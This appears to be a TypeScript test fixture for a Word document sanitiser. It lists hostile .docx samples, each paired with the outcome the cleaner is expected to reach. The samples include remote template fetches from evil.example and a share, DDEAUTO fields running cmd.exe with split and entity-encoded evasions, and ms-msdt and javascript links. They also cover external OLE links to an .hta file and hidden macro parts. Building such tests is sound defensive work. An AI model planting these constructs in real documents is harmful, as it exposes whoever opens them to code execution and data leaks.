import { CANARY, type HostileFile, SHARE } from './hostile-file.ts'
import { docx, field, namespaces, office, paragraph, run, wordMain, wordPart } from './office-file.ts'
import { picture, raw, seen, settings, WORD, withSettings } from './word-file.ts'

/** Word: what bites whoever opens it. */
export const wordBites: readonly HostileFile[] = [
  {
    what: 'a template is fetched from a share',
    is: 'cleaned',
    make: () =>
      docx(
        seen,
        [withSettings],
        settings('<w:attachedTemplate r:id="r1"/>', [['attachedTemplate', `file:///${SHARE}\\t.dotm`, 'outside']]),
      ),
  },
  {
    what: 'a template is fetched by a relation under another prefix',
    is: 'cleaned',
    make: () =>
      docx(seen, [withSettings], {
        ...settings('<w:attachedTemplate r:id="r1"/>'),
        'word/_rels/settings.xml.rels': raw(
          '<x:Relationships xmlns:x="http://schemas.openxmlformats.org/package/2006/relationships"><x:Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" TargetMode="External" Target="http://evil.example/t.dotm"/></x:Relationships>',
        ),
      }),
  },
  {
    what: 'a template is fetched by a relation written in entities',
    is: 'damaged',
    make: () =>
      docx(seen, [withSettings], {
        ...settings('<w:attachedTemplate r:id="r1"/>'),
        'word/_rels/settings.xml.rels': raw(
          '<!DOCTYPE x [<!ENTITY t "http://evil.example/t.dotm">]><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="attachedTemplate" TargetMode="External" Target="&t;"/></Relationships>',
        ),
      }),
  },
  {
    what: 'the same in numbers of characters',
    is: 'cleaned',
    make: () =>
      docx(seen, [withSettings], {
        ...settings('<w:attachedTemplate r:id="r1"/>'),
        'word/_rels/settings.xml.rels': raw(
          '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplat&#101;" TargetMode="Ext&#101;rnal" Target="&#104;ttp://evil.example/t.dotm"/></Relationships>',
        ),
      }),
  },
  {
    what: 'a field runs a program (DDEAUTO), in pieces',
    is: 'cleaned',
    drops: ['DDEAUTO', 'cmd.exe'],
    make: () =>
      docx(seen + paragraph(field([' DDE', 'AU', 'TO c:\\\\windows\\\\system32\\\\cmd.exe ', '"/k calc"'], 'x'))),
  },
  {
    what: 'a simple field runs a program, another one in a field of a harmless kind',
    is: 'cleaned',
    drops: ['DDE', 'cmd.exe'],
    make: () =>
      docx(
        seen +
          paragraph(
            `<w:fldSimple w:instr="DDE cmd.exe calc">${run('x')}</w:fldSimple><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> QUOTE </w:instrText></w:r>${field(['DDEAUTO cmd.exe calc'], 'y')}<w:r><w:fldChar w:fldCharType="end"/></w:r>`,
          ),
      ),
  },
  {
    what: 'a picture and a text are fetched by fields',
    is: 'cleaned',
    drops: ['INCLUDE', 'evil.example'],
    make: () =>
      docx(
        seen +
          paragraph(
            field(['INCLUDEPICTURE "http://evil.example/p.png" \\d'], '') +
              field([`INCLUDETEXT "${SHARE}\\a.txt"`], ''),
          ),
      ),
  },
  {
    what: 'links lead to a file, a share, a script and a protocol of the system',
    is: 'cleaned',
    make: () =>
      docx(
        paragraph(
          [1, 2, 3, 4]
            .map((id) => `<w:hyperlink r:id="r${id}">${run(id === 1 ? 'seen' : 'there')}</w:hyperlink>`)
            .join(''),
        ),
        [
          ['hyperlink', `file:///C:/Users/${CANARY}/a.exe`, 'outside'],
          ['hyperlink', SHARE, 'outside'],
          ['hyperlink', 'javascript:alert(1)', 'outside'],
          ['hyperlink', 'ms-msdt:/id PCWDiagnostic', 'outside'],
        ],
      ),
  },
  {
    what: 'fields link to a share and a file',
    is: 'cleaned',
    drops: ['HYPERLINK'],
    make: () =>
      docx(
        seen +
          paragraph(field([`HYPERLINK "${SHARE}\\a"`], 'x') + field(['HYPER', 'LINK ', '"file:', '///C:/a.exe"'], 'y')),
      ),
  },
  {
    what: 'a picture is fetched when the document opens',
    is: 'cleaned',
    make: () => docx(seen + picture('x', 'r:link="r1"'), [['image', 'http://evil.example/track.png', 'outside']]),
  },
  {
    what: 'a shape of old fetches its picture and carries another drawing',
    is: 'cleaned',
    drops: ['gfxdata', 'evil.example'],
    make: () =>
      docx(
        `${seen}<w:p><w:r><w:pict><v:shape id="_x0000_i1" style="width:1pt;background:url(http://evil.example/a)" href="http://evil.example" o:gfxdata="UEsDBBQ"><v:imagedata r:id="r1" r:href="r1" o:title="${CANARY}"/></v:shape></w:pict></w:r></w:p>`,
        [['image', 'http://evil.example/a.png', 'outside']],
      ),
  },
  {
    what: 'a shape runs a program when it is clicked',
    is: 'cleaned',
    drops: ['ppaction', 'evil'],
    make: () =>
      docx(
        seen +
          paragraph(
            '<w:r><w:drawing><wp:inline><wp:docPr id="1" name="x"><a:hlinkClick r:id="r1" action="ppaction://program"/></wp:docPr></wp:inline></w:drawing></w:r>',
          ),
        [['hyperlink', 'file:///C:/evil.exe', 'outside']],
      ),
  },
  {
    what: 'what old readers take holds a field that runs a program',
    is: 'cleaned',
    drops: ['DDEAUTO'],
    make: () =>
      docx(
        `<w:p><mc:AlternateContent xmlns:wps="http://schemas.microsoft.com/office/word/2010/wordprocessingShape"><mc:Choice Requires="wps">${run('seen')}</mc:Choice><mc:Fallback>${field(['DDEAUTO cmd calc'], 'x')}</mc:Fallback></mc:AlternateContent></w:p>`,
      ),
  },
  {
    what: 'what new readers take is not understood, what old ones take runs a program',
    is: 'cleaned',
    drops: ['DDEAUTO'],
    make: () =>
      docx(
        `<w:p><mc:AlternateContent xmlns:zz="urn:zz"><mc:Choice Requires="zz"><zz:a/></mc:Choice><mc:Fallback>${run('seen')}${field(['DDEAUTO cmd calc'], 'x')}</mc:Fallback></mc:AlternateContent></w:p>`,
      ),
  },
  {
    what: 'frames are fetched by the settings for the web, letters by the source of addresses',
    is: 'cleaned',
    make: () =>
      docx(seen, [withSettings, ['webSettings', 'webSettings.xml']], {
        ...settings(`<w:mailMerge><w:dataSource r:id="r1"/><w:connectString w:val="${CANARY}"/></w:mailMerge>`, [
          ['mailMergeSource', `file:///${SHARE}\\a.mdb`, 'outside'],
        ]),
        'word/webSettings.xml': wordPart(
          'webSettings',
          `<w:webSettings ${namespaces}><w:frameset><w:frame><w:sourceFileName r:id="r1"/></w:frame></w:frameset></w:webSettings>`,
          [['frame', 'http://evil.example/', 'outside']],
        ),
      }),
  },
  {
    what: 'a web page is taken in as text (altChunk)',
    is: 'more-inside',
    make: () =>
      docx(`${seen}<w:altChunk r:id="r1"/>`, [['aFChunk', 'a.html']], {
        'word/a.html': { type: 'text/html', content: '<script>alert(1)</script>' },
      }),
  },
  {
    what: 'another document is taken in',
    is: 'more-inside',
    make: () => docx(`${seen}<w:subDoc r:id="r1"/>`, [['subDocument', `file:///${SHARE}/a.docx`, 'outside']]),
  },
  {
    what: 'an object of another program lies in it',
    is: 'more-inside',
    make: () =>
      docx(
        `${seen}<w:p><w:r><w:object><o:OLEObject Type="Embed" ProgID="Package" r:id="r1"/></w:object></w:r></w:p>`,
        [['oleObject', 'embeddings/oleObject1.bin']],
        { 'word/embeddings/oleObject1.bin': { content: Buffer.from('d0cf11e0a1b11ae1', 'hex') } },
      ),
  },
  {
    what: 'an object is fetched and updated by itself',
    is: 'more-inside',
    make: () =>
      docx(
        `${seen}<w:p><w:r><w:object><o:OLEObject Type="Link" UpdateMode="Always" r:id="r1"/></w:object></w:r></w:p>`,
        [['oleObject', 'http://evil.example/a.hta!', 'outside']],
      ),
  },
  {
    what: 'an ActiveX control',
    is: 'macros',
    make: () =>
      docx(`${seen}<w:p><w:r><w:control r:id="r1" w:name="x"/></w:r></w:p>`, [['control', 'activeX/activeX1.xml']], {
        'word/activeX/activeX1.xml': { type: 'application/vnd.ms-office.activeX+xml', content: '<a/>' },
      }),
  },
  {
    what: 'macros under another name and another ending',
    is: 'macros',
    make: () =>
      docx(seen, [[`${WORD}/vbaProject`, 'theme1.xml']], {
        'word/theme1.xml': { type: 'application/vnd.ms-office.vbaProject', content: 'x' },
      }),
  },
  {
    what: 'a document with macros by its type',
    is: 'macros',
    make: () =>
      office({
        'word/document.xml': { ...wordMain(seen), type: 'application/vnd.ms-word.document.macroEnabled.main+xml' },
      }),
  },
  {
    what: 'buttons that call a program at start (customUI)',
    is: 'cleaned',
    make: () =>
      docx(
        seen,
        [],
        {
          'customUI/customUI.xml': {
            content: '<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui" onLoad="evil"/>',
          },
        },
        [[`${WORD}/ui/extensibility`, 'customUI/customUI.xml']],
      ),
    drops: ['onLoad'],
  },
  {
    what: 'an element nobody knows holds the text',
    is: 'not-understood',
    make: () => docx(`${seen}<w:p><z:run xmlns:z="urn:z">more</z:run></w:p>`),
  },
  {
    what: 'an element nobody knows refers to a part',
    is: 'not-understood',
    make: () =>
      docx(`${seen}<w:p><w:surprise r:id="r1"/></w:p>`, [['surprise', 'a.xml']], { 'word/a.xml': { content: '<a/>' } }),
  },
  {
    what: 'it is written in the strict form, which we do not read',
    is: 'not-understood',
    make: () =>
      office({
        'word/document.xml': {
          ...wordMain(seen),
          content: `<w:document xmlns:w="http://purl.oclc.org/ooxml/wordprocessingml/main"><w:body>${seen}</w:body></w:document>`,
        },
      }),
  },
  {
    what: 'a signature, which no copy keeps',
    is: 'more-inside',
    make: () =>
      docx(
        seen,
        [],
        {
          '_xmlsignatures/origin.sigs': {
            type: 'application/vnd.openxmlformats-package.digital-signature-origin',
            content: '',
          },
        },
        [
          [
            'http://schemas.openxmlformats.org/package/2006/relationships/digital-signature/origin',
            '_xmlsignatures/origin.sigs',
          ],
        ],
      ),
  },
]
